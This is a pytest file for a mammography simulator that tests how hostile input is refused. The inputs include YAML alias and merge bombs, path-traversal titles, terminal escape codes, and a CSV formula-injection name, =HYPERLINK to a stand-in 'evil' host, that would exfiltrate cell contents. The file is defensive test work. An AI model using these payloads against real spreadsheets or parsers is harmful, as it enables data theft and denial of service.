"""Input that strangers hand in: refused in one plain sentence, before it is built."""

from __future__ import annotations

import json
import os
import time
from itertools import pairwise

import pytest
from make_run import invoke, read_table, save_breast, write

from mammosim.acquisition.spectrum import read_spectrum
from mammosim.cohort import cohort_schema, load_cohort
from mammosim.config import open_file, parse_value, read_yaml, to_settings, user_path
from mammosim.errors import InputError
from mammosim.export import csv_text, text_of_csv
from mammosim.phantom import LandmarkSettings, LesionSettings, read_phantom
from mammosim.pipeline import (
    RunConfig,
    RunFolder,
    apply_change,
    config_of,
    is_finished,
    load_config,
    locate_in_run,
    read_record,
    title_of,
)
from mammosim.tissues import composition, load_label_map

SECONDS = 5.0
"""Of the processor, for inputs that took minutes: ten times what they take now."""


def bomb(kind: str) -> str:
    levels = "abcdefgh"
    if kind == "merge":
        head = "a: &a {" + ", ".join(f"k{i}: 1" for i in range(10)) + "}\n"
        return head + "".join(
            f"{b}: &{b} {{<<: [{', '.join([f'*{a}'] * 10)}]}}\n" for a, b in pairwise(levels)
        )
    if kind == "alias":
        return "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
            f"{b}: &{b} [{', '.join([f'*{a}'] * 9)}]\n" for a, b in pairwise(levels)
        )
    if kind == "itself":
        return "a: &a {<<: *a, b: 1}\n"
    return {
        "list": "seed: [" + "1," * 400_000 + "1]",
        "keys": "".join(f"k{i}: 1\n" for i in range(60_000)),
        "deep list": "[" * 400_000,
        "deep mapping": "{a: " * 200_000,
        "deep sequence": "- " * 400_000,
        "long": "a: " + "x" * 2_000_000,
        "comments": "# c\n" * 400_000,
        "base 60": "%YAML 1.1\n---\na: 1" + ":1" * 400_000,
    }[kind]


@pytest.mark.parametrize(
    ("kind", "message"),
    [("merge", "line 4: more than 20000 values"), ("alias", "more than 20000 values"),
     ("itself", "more than 20000 values|undefined alias"), ("list", "more than 20000 values"),
     ("keys", "line 10000: more than 20000 values"), ("deep list", "nested more than 50 deep"),
     ("deep mapping", "nested more than 50 deep"), ("deep sequence", "nested more than 50 deep"),
     ("long", "longer than 1000000 bytes"), ("comments", "longer than 1000000 bytes"),
     ("base 60", "YAML 1.1, expected 1.2")],
)  # fmt: skip
def test_bombs_are_refused_before_they_are_built(kind, message, tmp_path):
    path = tmp_path / "bomb.yaml"
    path.write_text(bomb(kind))
    start = time.process_time()
    with pytest.raises(InputError, match=message):
        read_yaml(path)
    assert time.process_time() - start < SECONDS


def test_merge_keys_of_a_sound_file_are_followed(tmp_path):
    path = tmp_path / "merge.yaml"
    path.write_text("base: &b {x: 1, y: 2}\nmine: {<<: *b, y: 3}\n")
    assert read_yaml(path)["mine"] == {"x": 1, "y": 3}


@pytest.mark.parametrize(
    "number", ["0x" + "f" * 4000, "0o" + "7" * 4000, "9" * 100, "-0x" + "f" * 40]
)
@pytest.mark.parametrize("form", ["seed: {}", "{}: 1", "a: [1, {}]"])
def test_numbers_too_long_for_any_record_are_refused(number, form, tmp_path):
    path = tmp_path / "long.yaml"
    path.write_text(form.format(number))
    with pytest.raises(InputError, match=r"whole number of \d+ bits|not valid YAML"):
        read_yaml(path)
    with pytest.raises(InputError):
        parse_value(number, "--set seed")


def test_values_that_no_file_could_hold_are_refused():
    itself: dict[str, object] = {}
    itself["phantom"] = itself
    for values in (itself, {"seed": 16**5000}):
        with pytest.raises(InputError, match="cannot be written as JSON"):
            to_settings(RunConfig, values, "here")


PATH_KEYS = [("phantom", "file"), ("phantom", "labels"), ("acquisition", "spectrum_file"),
             ("acquisition", "composition")]  # fmt: skip


@pytest.mark.parametrize(("section", "key"), PATH_KEYS)
@pytest.mark.parametrize("in_view", [False, True])
def test_homes_of_nobody(section, key, in_view, tmp_path):
    values: dict = {"phantom": {"file": "b.npz"}}
    where = f"{section}.{key}"
    if in_view and section == "acquisition":
        values["views"], where = [{"view": "CC", key: "~nosuchuser/a.yaml"}], f"views.0.{key}"
    else:
        values.setdefault(section, {})[key] = "~nosuchuser/a.yaml"
    with pytest.raises(InputError, match=f"f.yaml: {where}: found '~nosuchuser.*home folder"):
        config_of(values, tmp_path, "f.yaml")


def test_homes_of_nobody_in_a_cohort(tmp_path):
    path = tmp_path / "c.yaml"
    path.write_text("cohort: {patients_file: ~nosuchuser/p.csv}\nphantom: {file: b.npz}\n")
    with pytest.raises(InputError, match=r"cohort\.patients_file: found '~nosuchuser"):
        load_cohort(path)
    assert user_path("~", "here").is_absolute()


@pytest.fixture(params=["pipe", "folder", "device"])
def no_file(request, tmp_path):
    """What lies where a file should, under a name with an ending of choice."""

    def make(name: str):
        path = tmp_path / "odd" / name
        path.parent.mkdir(exist_ok=True)
        if request.param == "pipe":
            os.mkfifo(path)
        elif request.param == "folder":
            path.mkdir()
        else:
            path.symlink_to("/dev/zero")
        return path

    return make


def test_only_files_are_read(no_file, tmp_path):
    """Every place that opens a file a user names."""
    readers = [
        (read_yaml, "c.yaml"), (read_yaml, "c.json"), (load_label_map, "l.yaml"),
        (lambda path: composition(str(path), "hydroxyapatite"), "m.yaml"),
        (lambda path: read_spectrum(str(path)), "s.txt"), (load_cohort, "c2.yaml"),
        *((read_phantom, f"p{ending}") for ending in (
            ".npz", ".npy", ".mhd", ".nrrd", ".nii.gz", ".tif", ".vctx", ".bin")),
    ]  # fmt: skip
    for read, name in readers:
        path = no_file(name)
        with pytest.raises(InputError, match=r"expected a file|no such file|DICOM"):
            read(path)
    cohort = tmp_path / "cohort.yaml"
    cohort.write_text(f"cohort: {{patients_file: {no_file('p.csv')}}}\nphantom: {{file: b.npz}}\n")
    with pytest.raises(InputError, match="expected a file"):
        load_cohort(cohort)
    with pytest.raises(OSError, match="expected a file"):
        open_file(no_file("any"))


def test_records_that_are_no_files_count_as_none(no_file):
    run = no_file("run.json").parent
    assert read_record(run) == {}
    no_file("geometry.json")
    with pytest.raises(InputError):
        locate_in_run(run, ["CC"], [(1.0, 1.0)])


def numbers_without_bounds(schema: dict) -> list[str]:
    found = []

    def walk(node, path: str) -> None:
        if isinstance(node, list):
            for number, item in enumerate(node):
                walk(item, f"{path}/{number}")
        elif isinstance(node, dict):
            low = {"minimum", "exclusiveMinimum"} & node.keys()
            high = {"maximum", "exclusiveMaximum"} & node.keys()
            if node.get("type") in ("number", "integer") and not (low and high):
                found.append(path)
            for key, item in node.items():
                walk(item, f"{path}/{key}")

    walk(schema, "")
    return found


def test_every_number_of_the_configuration_has_both_bounds():
    """What has none leads to a division by zero or an overflow somewhere."""
    assert numbers_without_bounds(RunConfig.model_json_schema()) == []
    cohort = cohort_schema()["$defs"]
    for name in ("CohortSettings", "SplitSettings"):
        if name in cohort:
            assert numbers_without_bounds(cohort[name]) == []


@pytest.mark.parametrize(
    ("section", "key", "value"),
    [("projection", "source_to_detector_mm", 1e9), ("projection", "pixel_mm", 1e-300),
     ("projection", "support_to_detector_mm", 1e308), ("acquisition", "mas", 1e308),
     ("acquisition", "mas", 1e-9), ("acquisition", "grid_primary_transmission", 1e-300),
     ("acquisition", "filter_mm", 1e-300), ("compression", "thickness_mm", 1e-300),
     ("compression", "force_n", 1e308), ("compression", "plate_edge_mm", -1e308),
     ("compression", "stiffness_kpa", {"skin": 1e-300}), ("report", "picture_rows", 10**9)],
)  # fmt: skip
def test_numbers_beyond_their_bounds_are_refused(section, key, value):
    with pytest.raises(InputError, match=rf"{section}\.{key}"):
        config_of({"phantom": {"generate": {}}, section: {key: value}}, ".", "f.yaml")


NAMES = ["=1+1", '=HYPERLINK("http://evil/?"&A1,"x")', "+1", "-1+1", "@SUM(1)", "[/]", ":heart:",
         "[bold]mass[/bold]", "a,b;\"c\"", "<script>x</script>", "a\\b", "%s", "${x}"]  # fmt: skip
BAD_NAMES = [
    "\t=1+1",
    "\r=1",
    "a\nb",
    "a\0b",
    "\x1b[31mred",
    "\u202egnp",
    "\u2028",
    " ",
    "",
    "x" * 65,
]


@pytest.mark.parametrize("name", BAD_NAMES)
def test_names_that_steer_a_terminal_are_refused(name):
    for kind, values in (
        (LesionSettings, {"name": name, "kind": "clip"}),
        (LandmarkSettings, {"name": name, "position_mm": [1, 2, 3]}),
    ):
        with pytest.raises(InputError, match="f: name: found"):
            to_settings(kind, values, "f")


@pytest.mark.parametrize("name", NAMES)
def test_a_cell_is_text_and_reads_back(name):
    cell = csv_text(name)
    assert cell[0] not in "=+-@\t\r"
    assert text_of_csv(cell) == name


def test_names_are_printed_and_written_as_they_are(tmp_path):
    """A run whose lesions have odd names: on the terminal, in the table, in DICOM."""
    lesions = [
        {
            "name": name,
            "kind": "clip",
            "position_mm": [6 + 5 * (number % 4), 6 * (number // 4) - 9, 3],
        }
        for number, name in enumerate(NAMES)
    ]
    path = write(save_breast(tmp_path), phantom={"file": "breast.npz", "lesions": lesions},
                 views=["CC"], report={"html": False})  # fmt: skip
    result = invoke("run", path, "--output", tmp_path / "out")
    assert result.exit_code == 0, result.output
    for name in NAMES:
        assert f" {name} " in result.output
    rows = read_table(tmp_path / "out" / "lesions.csv")
    assert [text_of_csv(row["name"]) for row in rows][: len(NAMES)] == NAMES
    assert not any(row["name"].startswith(("=", "+", "-", "@")) for row in rows)


HEADERS = [
    "'descr': '|u1', 'fortran_order': False, 'shape': (True, 5, 5)",
    "'descr': '|u1', 'fortran_order': False, 'shape': (5.0, 5, 5)",
    "'descr': '|u1', 'fortran_order': False, 'shape': (-5, 5, -5)",
    "'descr': '|u1', 'fortran_order': False, 'shape': (9223372036854775808, 1, 1)",
    "'descr': (), 'fortran_order': False, 'shape': (5, 5, 5)",
    "'descr': ('|u1',), 'fortran_order': False, 'shape': (5, 5, 5)",
    "'descr': [('a', '|O')], 'fortran_order': False, 'shape': (5, 5, 5)",
    "'descr': ('<i4', (0,)), 'fortran_order': False, 'shape': (5, 5, 5)",
    "'descr': '<M8[ns]', 'fortran_order': False, 'shape': (5, 5, 5)",
    "'descr': '<c8', 'fortran_order': False, 'shape': (5, 5, 5)",
    "'descr': 'i4' * 3, 'fortran_order': False, 'shape': (5, 5, 5)",
    "'descr': '|u1', 'fortran_order': 'F', 'shape': (5, 5, 5)",
    "'descr': '|u1', 'fortran_order': False, 'shape': (" + "-" * 3000 + "5, 5, 5)",
]


@pytest.mark.parametrize("header", HEADERS)
def test_odd_headers_of_arrays(header, tmp_path):
    text = ("{" + header + "}").encode() + b" " * 16 + b"\n"
    path = tmp_path / "odd.npy"
    path.write_bytes(b"\x93NUMPY\1\0" + len(text).to_bytes(2, "little") + text + bytes(1000))
    with pytest.raises(InputError):
        read_phantom(path)


def test_lists_and_items_can_be_set(tmp_path):
    path = write(save_breast(tmp_path))
    config = load_config(path, ["phantom.lesions.0.diameter_mm=4", "views=[ML]"])
    assert config.phantom.lesions[0].diameter_mm == 4
    assert [view.view for view in config.views] == ["ML"]
    config = load_config(path, ["phantom.lesions=[{name: a, kind: clip}, {name: b, kind: clip}]"])
    assert [lesion.name for lesion in config.phantom.lesions] == ["a", "b"]


@pytest.mark.parametrize(
    ("change", "message"),
    [("views=CC", r"views: found 'CC', expected a list, as \[CC\]"),
     ("phantom.lesions.1.name=x", r"found '1' in the list phantom.lesions, .* 0 to 0"),
     ("phantom.lesions.-1.name=x", "found '-1' in the list"),
     ("phantom.lesions.first.name=x", r"as phantom.lesions=\[\.\.\.\]"),
     ("phantom.file.name=x", "phantom.file is .*no section or list"),
     ("phantom.lesions.0=3", "phantom.lesions.0: found 3, expected a mapping of keys")],
)  # fmt: skip
def test_set_says_what_to_write(change, message, tmp_path):
    with pytest.raises(InputError, match=message):
        load_config(write(save_breast(tmp_path)), [change])


def test_set_makes_sections_that_are_not_there():
    values: dict = {}
    apply_change(values, "compression.thickness_mm=40")
    assert values == {"compression": {"thickness_mm": 40}}


@pytest.mark.parametrize(
    ("name", "tissue"),
    [("fat", "adipose"), ("Skin", "skin"), ("fibroglandular", "gland"), ("tumour", "mass"),
     ("pectoral", "muscle"), ("adipos", "adipose"), ("microcalcification", "calcification")],
)  # fmt: skip
def test_label_maps_suggest_the_nearest_tissue(name, tissue, tmp_path):
    path = tmp_path / "own.yaml"
    path.write_text(f"0: air\n1: {name}\n")
    with pytest.raises(InputError, match=rf"label 1: found '{name}' \(did you mean '{tissue}'\?\)"):
        load_label_map(str(path))


def test_tissues_of_moduli_are_suggested_too():
    with pytest.raises(InputError, match="unknown tissue fat; did you mean 'adipose'"):
        config_of({"phantom": {"generate": {}}, "compression": {"stiffness_kpa": {"fat": 1}}},
                  ".", "f.yaml")  # fmt: skip


@pytest.mark.parametrize("line", ["1e308 1e308", "20 1e308", "1 1e-300", "1.5 1"])
def test_spectra_that_nothing_comes_of(line, tmp_path):
    """Sums that overflow, and photons of which none leaves the filter."""
    from mammosim.acquisition.spectrum import make_beam

    path = tmp_path / "s.txt"
    path.write_text(f"1 0\n{line}\n" if not line.startswith("1 ") else f"{line}\n1.2 0\n")
    with pytest.raises(InputError, match=r"s\.txt"):
        make_beam("W", "Rh", spectrum_file=str(path))


@pytest.mark.parametrize(
    "title",
    ["../../elsewhere", "/tmp/elsewhere", "..", "", "a/b", "a\\b", "a\x1b[2J", 7, None, "é" * 200],
)
def test_a_record_does_not_say_where_files_are_written(title, tmp_path):
    (tmp_path / "run.json").write_text(json.dumps({"title": title}))
    assert title_of(tmp_path / "run.json") == "run"
    values = {"cohort": {"patients": 1}, "phantom": {"generate": {}}}
    record = {"title": title, "folder": str(tmp_path), "cohort_of": values}
    (tmp_path / "cohort.json").write_text(json.dumps(record))
    assert load_cohort(tmp_path / "cohort.json").title == "cohort"


def test_the_title_of_a_record_is_kept_where_it_is_a_name(tmp_path):
    (tmp_path / "run.json").write_text(json.dumps({"title": "Müller 2, left"}))
    assert title_of(tmp_path / "run.json") == "Müller 2, left"


@pytest.mark.parametrize(
    "command",
    [["run", "{config}", "--output", "{place}"], ["cohort", "status", "{place}"],
     ["locate", "{place}", "--view", "CC", "--pixel", "1", "1"], ["info", "{place}"],
     ["check", "{place}"], ["convert", "{place}", "{place}.npz"]],
)  # fmt: skip
@pytest.mark.parametrize("name", ["x" * 300, "loop", "run.yaml/x"])
def test_places_that_cannot_be(command, name, tmp_path):
    """A name that is too long, a link to itself, a folder beneath a file."""
    config = write(save_breast(tmp_path), views=["CC"])
    (tmp_path / "loop").symlink_to("loop")
    place = str(tmp_path / name)
    result = invoke(*(word.format(config=config, place=place) for word in command))
    assert result.exit_code == 2
    assert result.output.startswith("error: ")
    assert "Traceback" not in result.output


def test_a_record_that_names_a_link_to_itself_counts_as_harmed(tmp_path):
    config = load_config(write(save_breast(tmp_path), views=["CC"]))
    folder = tmp_path / "out"
    folder.mkdir()
    (folder / "a").symlink_to("a")
    settings = config.plain()
    run_hash = RunFolder(folder, config)._hash
    record = {"status": "done", "settings": settings, "run_hash": run_hash, "files": {"a": "0"}}
    (folder / "run.json").write_text(json.dumps(record))
    assert not is_finished(folder, config)
